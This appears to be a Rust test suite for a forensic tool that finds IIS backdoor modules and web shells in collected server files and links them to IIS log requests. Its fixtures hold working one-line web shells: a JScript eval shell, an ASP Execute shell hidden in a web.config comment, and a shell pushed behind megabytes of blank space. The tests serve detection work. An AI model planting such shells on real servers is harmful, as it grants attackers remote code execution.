//! Files of a web server as a responder collects them: configuration in any encoding, pages that hide, paths on the server.
//!
//! In: small collections. Out: which findings and doors they give, and which they must not.

use serde_json::{Value, json};

use crate::scratch::{CASE, Scratch, text};

const SHELL: &str = "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"k\"],\"unsafe\");%>";

/// A configuration with these entries in `<modules>`.
fn configuration(modules: &str) -> String {
    format!(
        "<?xml version=\"1.0\"?>\n<configuration>\n <system.webServer>\n  <modules>\n{modules}\n  </modules>\n </system.webServer>\n</configuration>\n"
    )
}

fn utf_16(text: &str) -> Vec<u8> {
    format!("\u{feff}{text}").encode_utf16().flat_map(u16::to_le_bytes).collect()
}

fn titles(scratch: &Scratch) -> Vec<(String, String)> {
    let all = scratch.lines("findings.jsonl");
    let mut titles: Vec<_> = all.iter().map(|one| (text(one, "level"), text(one, "title"))).collect();
    titles.sort();
    titles
}

/// Each door in words, sorted.
fn each_door(scratch: &Scratch, words: impl Fn(&Value) -> String) -> Vec<String> {
    let doors = scratch.object("doors.json");
    let mut all: Vec<String> = doors["doors"].as_array().expect("a list").iter().map(words).collect();
    all.sort();
    all
}

fn door_places(scratch: &Scratch) -> Vec<String> {
    each_door(scratch, |door| format!("{} {}", text(door, "kind"), text(door, "place")))
}

#[test]
fn a_module_in_a_configuration_in_utf_16_is_a_door_that_leads_to_its_bytes() {
    let scratch = Scratch::new();
    let entry = r#"<add name="Owa2" type="ClassLibrary2.Module, ClassLibrary2" />"#;
    scratch.write(
        "MX01/C/Windows/System32/inetsrv/config/applicationHost.config",
        utf_16(&configuration(entry)),
    );
    scratch.investigate("MX01").expect(0);
    assert_eq!(door_places(&scratch), ["iis-module ClassLibrary2.Module, ClassLibrary2"]);
    let shown = scratch.piste(&["show", "F-1", "--case", CASE]).expect(0).out;
    assert!(shown.contains("the same as when the row was made"), "{shown}");
    assert!(shown.contains("3c 00 61 00 64 00 64 00"), "{shown}");
}

/// The configuration of a server with Exchange in this folder, as its setup leaves it: what it registers of its own and of Windows'.
fn exchange_server(root: &str) -> String {
    let filters = [("bin\\owaauth.dll", "OWA"), ("bin\\AirFilter.dll", "ActiveSync")];
    let filters: Vec<String> = filters
        .iter()
        .map(|(file, name)| {
            format!("<filter name=\"Exchange {name}\" path=\"{root}\\FrontEnd\\HttpProxy\\{file}\" />\n")
        })
        .collect();
    let filters = filters.concat();
    format!(
        r#"<?xml version="1.0"?>
<configuration>
 <system.applicationHost><sites>
  <site name="Default Web Site" id="1">
   <application path="/"><virtualDirectory path="/" physicalPath="%SystemDrive%\inetpub\wwwroot" /></application>
   <application path="/owa"><virtualDirectory path="/" physicalPath="{root}\FrontEnd\HttpProxy\owa" /></application>
  </site>
 </sites></system.applicationHost>
 <system.webServer>
  <globalModules>
   <add name="RequestMonitorModule" image="%windir%\System32\inetsrv\iisreqs.dll" />
   <add name="PasswordExpiryModule" image="%SystemRoot%\system32\rpcproxy\rpcproxy.dll" preCondition="bitness64" />
   <add name="RewriteModule" image="%SystemRoot%\system32\inetsrv\rewrite.dll" />
   <add name="kerbauth" image="{root}\Bin\kerbauth.dll" />
   <add name="WSMan" image="C:\Windows\system32\wsmsvc.dll" />
   <add name="exppw" image="{root}\ClientAccess\Owa\auth\exppw.dll" />
   <add name="cafe_exppw" image="{root}\FrontEnd\HttpProxy\bin\exppw.dll" />
  </globalModules>
 </system.webServer>
 <location path="Default Web Site"><system.webServer><isapiFilters><clear />
{filters} </isapiFilters></system.webServer></location>
</configuration>
"#
    )
}

/// What Exchange's own applications register: types without the name of their assembly, and a library of Windows.
const BACK_END: &str = r#"<?xml version="1.0"?>
<configuration><system.webServer>
 <modules>
  <add type="Microsoft.Exchange.Security.OAuth.OAuthHttpModule" name="OAuthAuthModule" />
  <add name="RbacModule" type="Microsoft.Exchange.Management.ControlPanel.RbacModule" preCondition="managedHandler" />
  <add name="OABRequestHandler" type="Microsoft.Exchange.OABRequestHandler.HttpModule,Microsoft.Exchange.OABRequestHandler" />
  <add name="WSMan" />
 </modules>
 <handlers><clear />
  <add name="RPCPROXY" path="*" verb="*" modules="IsapiModule" scriptProcessor="%SystemRoot%\system32\rpcproxy\rpcproxyshim.dll" />
 </handlers>
</system.webServer></configuration>
"#;

#[test]
fn what_exchange_itself_registers_is_no_door_wherever_it_is_installed() {
    for (root, collected) in [
        (r"C:\Program Files\Microsoft\Exchange Server\V15", "C/Program Files/Microsoft/Exchange Server/V15"),
        (r"E:\Exchange", "E/Exchange"),
    ] {
        let scratch = Scratch::new();
        scratch.write("MX01/C/Windows/System32/inetsrv/config/applicationHost.config", exchange_server(root));
        scratch.write(&format!("MX01/{collected}/ClientAccess/ecp/web.config"), BACK_END);
        scratch.investigate("MX01").expect(0);
        assert_eq!(door_places(&scratch), Vec::<String>::new(), "{root}");
        assert_eq!(titles(&scratch), [], "{root}");
    }
}

#[test]
fn an_unknown_module_is_unknown_until_a_second_sign_speaks_against_it() {
    let scratch = Scratch::new();
    let root = r"C:\Program Files\Microsoft\Exchange Server\V15";
    let more = [
        (r"%windir%\System32\inetsrv\agent7.dll", "probed unknown"),
        (r"C:\ProgramData\Intel\agent8.dll", "succeeded open"),
        (r"C:\Program Files\Microsoft\Exchange Server\V15\bin\owaauth.dll", "succeeded open"),
        (r"%windir%\System32\inetsrv\kerbauth.dll", "succeeded open"),
        (r"\\fs01\share\agent9.dll", "succeeded open"),
    ];
    let entries: Vec<String> =
        more.iter().map(|(image, _)| format!("<add name=\"x\" image=\"{image}\" />\n")).collect();
    let entries = format!("{}</globalModules>", entries.concat());
    let configuration = exchange_server(root).replace("</globalModules>", &entries);
    scratch.write("MX01/C/Windows/System32/inetsrv/config/applicationHost.config", configuration);
    scratch.investigate("MX01").expect(0);
    let shown = each_door(&scratch, |door| {
        format!("{}: {} {}", text(door, "place"), text(door, "verdict"), text(door, "state"))
    });
    let mut expected: Vec<String> = more.iter().map(|(image, judged)| format!("{image}: {judged}")).collect();
    expected.sort();
    assert_eq!(shown, expected);
    let all = scratch.object("doors.json").to_string();
    assert!(!all.contains("ships"), "no list is whole: {all}");
    let unknown = scratch.object("doors.json");
    let unknown =
        unknown["doors"].as_array().expect("a list").iter().find(|door| door["verdict"] == "probed");
    let close = text(unknown.expect("it is told"), "close");
    assert!(close.starts_with("find out whose it is before anything is removed"), "{close}");
}

#[test]
fn products_and_applications_bring_modules_that_are_no_doors() {
    let scratch = Scratch::new();
    let elmah = r#"<add name="ErrorLog" type="Elmah.ErrorLogModule, Elmah" />"#;
    let own = r#"<add name="Shop" type="Shop.Web.SessionModule, Shop.Web" />"#;
    scratch.write("MX01/C/inetpub/wwwroot/web.config", configuration(elmah));
    scratch.write("MX01/C/inetpub/wwwroot/shop/web.config", configuration(own));
    scratch.investigate("MX01").expect(0);
    assert_eq!(door_places(&scratch), Vec::<String>::new());
    assert_eq!(
        titles(&scratch),
        [(
            "low".to_owned(),
            "An Application's Configuration Registers A Module That No List Knows".to_owned()
        )]
    );
}

#[test]
fn a_shell_behind_blanks_is_found_and_one_over_the_limit_is_not_called_clean() {
    let scratch = Scratch::new();
    let hidden = format!("<%@ Page Language=\"Jscript\"%>{}{SHELL}", " ".repeat(7 << 20));
    scratch.write("MX01/C/inetpub/wwwroot/a.aspx", hidden);
    let far = format!("<%@ Page Language=\"Jscript\"%>{}{SHELL}", "<!-- 1 -->\n".repeat(3 << 20));
    scratch.write("MX01/C/inetpub/wwwroot/far.aspx", far);
    scratch.investigate("MX01").expect(3);
    assert_eq!(door_places(&scratch), [r"webshell C:\inetpub\wwwroot\a.aspx"]);
    let issue = scratch.issue("page-too-long");
    assert_eq!(text(&issue, "path"), "MX01/C/inetpub/wwwroot/far.aspx");
    assert!(text(&issue, "effect").contains("was not seen"), "{issue}");
}

#[test]
fn an_indicator_that_names_the_path_on_the_server_meets_the_collected_file() {
    let scratch = Scratch::new();
    scratch.write("MX01/C/inetpub/wwwroot/aspnet_client/b.php", "<?php echo 1;");
    scratch.write("MX01/C/inetpub/wwwroot/b.php", "<?php echo 2;");
    scratch.write("list.csv", "indicator,type\nC:\\inetpub\\wwwroot\\aspnet_client\\b.php,file-path\nD:\\inetpub\\wwwroot\\b.php,file-path\n");
    scratch.investigate("MX01 --indicators list.csv").expect(0);
    let seen = scratch.lines("sightings.jsonl");
    assert_eq!(seen.len(), 1, "the drive counts: {seen:?}");
    assert_eq!(seen[0]["count"], json!(1));
    let found =
        scratch.piste(&["search", r"ServerPath=C:\inetpub\wwwroot\b.php", "--case", CASE]).expect(0).out;
    assert!(found.contains("b.php"), "{found}");
}

/// An IIS log with these requests: time, method, path, status.
fn iis(requests: &[(&str, &str, &str, &str)]) -> String {
    let mut log = "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2021-03-03 00:00:00\r\n\
        #Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n"
        .to_owned();
    for (time, method, path, status) in requests {
        let line = format!(
            "2021-03-03 {time} 192.0.2.5 {method} {path} - 443 - 203.0.113.9 curl/7 - {status} 0 0 12\r\n"
        );
        log.push_str(&line);
    }
    log
}

/// `host place verdict state first_used`, sorted.
fn doors(scratch: &Scratch) -> Vec<String> {
    each_door(scratch, |door| {
        let used = door["first_used"].as_str().unwrap_or("-");
        let said = ["host", "place", "verdict", "state"].map(|field| text(door, field));
        format!("{} {used}", said.join(" "))
    })
}

#[test]
fn the_same_shell_on_two_servers_is_two_doors_and_each_copy_has_its_own_use() {
    let scratch = Scratch::new();
    for place in ["MX01/C/inetpub/wwwroot/aspnet_client", "MX02/C/inetpub/wwwroot/aspnet_client"] {
        scratch.write(&format!("all/{place}/help.aspx"), SHELL);
    }
    scratch.write("all/MX02/C/inetpub/wwwroot/aspnet_client/copy.aspx", SHELL);
    scratch.write(
        "all/MX02/C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log",
        iis(&[("05:00:00", "POST", "/aspnet_client/copy.aspx", "200")]),
    );
    scratch.investigate("all").expect(0);
    assert_eq!(
        doors(&scratch),
        [
            r"MX01 C:\inetpub\wwwroot\aspnet_client\help.aspx succeeded open -",
            r"MX02 C:\inetpub\wwwroot\aspnet_client\copy.aspx used open 2021-03-03T05:00:00Z",
            r"MX02 C:\inetpub\wwwroot\aspnet_client\help.aspx succeeded open -",
        ]
    );
}

#[test]
fn requests_are_joined_whatever_stands_around_the_name_of_the_page() {
    let scratch = Scratch::new();
    scratch.write("MX01/C/inetpub/wwwroot/aspnet_client/a.aspx", SHELL);
    scratch.write("MX01/C/inetpub/wwwroot/aspnet_client/web.config", "<?xml version=\"1.0\"?>\n<configuration><system.webServer><handlers><add name=\"c\" path=\"*.config\" verb=\"*\" modules=\"IsapiModule\" scriptProcessor=\"%windir%\\system32\\inetsrv\\asp.dll\" /></handlers></system.webServer></configuration>\n<!-- <% Execute(Request(\"k\")) %> -->");
    scratch.write("MX01/E/webs/app1/y.aspx", SHELL);
    scratch.write(
        "MX01/C/Windows/System32/inetsrv/config/applicationHost.config",
        r#"<configuration><system.applicationHost><sites><site name="Default Web Site" id="1"><application path="/app"><virtualDirectory path="/" physicalPath="E:\webs\app1" /></application></site></sites></system.applicationHost></configuration>"#,
    );
    scratch.write(
        "MX01/C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log",
        iis(&[
            ("05:00:00", "POST", "/aspnet_client//a.aspx", "200"),
            ("05:00:09", "POST", "/aspnet_client/a.aspx/x/y", "200"),
            ("05:01:00", "POST", "/app/y.aspx", "200"),
            ("05:02:00", "POST", "/aspnet_client/web.config", "200"),
        ]),
    );
    scratch.investigate("MX01").expect(0);
    assert_eq!(
        doors(&scratch),
        [
            r"MX01 C:\inetpub\wwwroot\aspnet_client\a.aspx used open 2021-03-03T05:00:00Z",
            r"MX01 C:\inetpub\wwwroot\aspnet_client\web.config used open 2021-03-03T05:02:00Z",
            r"MX01 E:\webs\app1\y.aspx used open 2021-03-03T05:01:00Z",
        ]
    );
}

#[test]
fn a_folder_that_was_not_collected_proves_no_removal_and_names_no_host() {
    let scratch = Scratch::new();
    scratch.write("desk/C/inetpub/wwwroot/web.config", configuration(""));
    scratch.write(
        "desk/C/Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/root/1/2/gone.aspx.cdcab7d2.compiled",
        "<?xml version=\"1.0\"?>\n<preserve resultType=\"3\" virtualPath=\"/aspnet_client/gone.aspx\" hash=\"1\" filehash=\"2\" flags=\"110000\" assembly=\"App_Web_1\" type=\"ASP.gone_aspx\">",
    );
    scratch.write("desk/a.jsonl", crate::events::three(1));
    scratch.investigate("desk").expect(0);
    let doors = scratch.object("doors.json");
    let door = &doors["doors"][0];
    assert_eq!(text(door, "state"), "unknown", "{door}");
    assert_ne!(text(door, "host"), "desk");
}
